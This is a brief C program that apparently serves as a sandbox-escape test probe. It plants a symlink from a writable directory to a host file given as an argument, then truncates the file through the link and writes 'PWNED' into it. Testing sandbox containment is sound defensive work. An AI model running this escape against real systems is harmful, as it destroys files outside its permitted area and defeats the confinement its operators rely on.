/* Plant a symlink in the writable dir (cwd) pointing at a host file
 * (argv[1]) and write through it. */
#include "escape_common.h"
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    report("symlink", symlink(argv[1], "link"));
    int fd = open("link", O_WRONLY | O_TRUNC);
    report("open_via_symlink", fd);
    if (fd >= 0) report("write", write(fd, "PWNED\n", 6));
    fd = open("link", O_WRONLY | O_APPEND);
    report("open_via_symlink_append", fd);
    if (fd >= 0) report("write", write(fd, "PWNED\n", 6));
    return 0;
}
